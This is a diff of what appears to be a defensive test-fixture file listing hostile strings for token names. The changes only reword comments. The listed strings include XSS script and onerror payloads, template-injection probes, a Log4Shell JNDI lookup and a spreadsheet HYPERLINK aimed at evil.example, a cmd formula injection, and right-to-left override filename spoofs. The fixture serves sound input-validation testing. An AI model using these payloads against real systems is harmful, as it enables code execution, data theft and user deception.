@@ -1,4 +1,4 @@
-/** Every one calls `hit`, or fetches from outside, if anything takes it for more than a text. */
+/** Each calls `hit` or sends a request to another server if treated as more than text. */
 const scripts = [
   "<script>hit()</script>",
   '"><script data-hostile>hit()</script>',
@@ -22,7 +22,7 @@ const scripts = [
 
 const templates = [
   "{{7*7}} {{constructor.constructor('hit()')()}}",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: that it looks like one is the point
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: looking like a template is the point
   "${7*7} ${hit()} `${hit()}`",
   "#{7*7} <%= 7*7 %> %{7*7}",
   "{7*7} $1 $& %s %d %n",
@@ -30,7 +30,7 @@ const templates = [
   "${jndi:ldap://evil.example/a}",
 ];
 
-/** What a spreadsheet takes for a formula. */
+/** Texts that spreadsheets read as formulas. */
 const formulas = [
   "=cmd|'/C calc'!A0",
   '=HYPERLINK("https://evil.example","go")',
@@ -63,17 +63,17 @@ const writing = [
   `Z${"\u0300\u0301\u0302\u0323\u0330\u033B".repeat(19)}`,
   "\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} \u{1F3F4}\u{E0067}\u{E0062}\u{E007F}",
   "W".repeat(120),
-  // Each character is as wide as a line of others.
+  // Each character is as wide as a whole line of others.
   "﷽".repeat(120),
 ];
 
-/** Some of everything, in as many characters as a name may have. */
+/** A bit of everything, as long as a name may be. */
 export const worst = `"><img src=x onerror=hit() data-hostile> {{7*7}} (שלום) Z${"\u0300\u0323".repeat(10)} ﷽﷽﷽${"W".repeat(30)}`;
 
-/** Texts that a token may have for its name. */
+/** Texts allowed as a token’s name. */
 export const hostileNames = [worst, ...scripts, ...templates, ...formulas, ...queries, ...words, ...writing];
 
-/** Texts with marks and control characters that no token may have, nor anything in a platform file. */
+/** Texts with bidirectional marks or control characters, allowed neither in tokens nor in platform files. */
 export const hostileMarks = [
   "\u202Egnp.exe",
   "\u202E)moc.live(\u202C \u2066x\u202E",
